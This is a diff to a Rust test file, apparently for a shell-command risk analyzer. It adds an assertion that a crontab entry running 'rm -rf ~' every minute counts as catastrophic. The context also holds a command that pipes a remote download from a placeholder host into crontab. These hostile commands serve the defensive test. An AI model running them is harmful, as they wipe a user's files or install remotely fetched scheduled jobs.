@@ -1196,6 +1196,7 @@ fn code_stored_to_run_later_is_walked() {
     opaque("crontab jobs.txt");
     risk_at_least("curl -s https://x.example/c | crontab -", Risk::High);
     // Listing or removing the table installs nothing.
+    catastrophic("echo '* * * * * rm -rf ~' | crontab -u bob -");
     for c in ["crontab -l", "crontab -u bob -l"] {
         let r = a(c);
         assert!(r.opaque.is_empty() && r.commands.len() == 1, "{c}: {r:#?}");
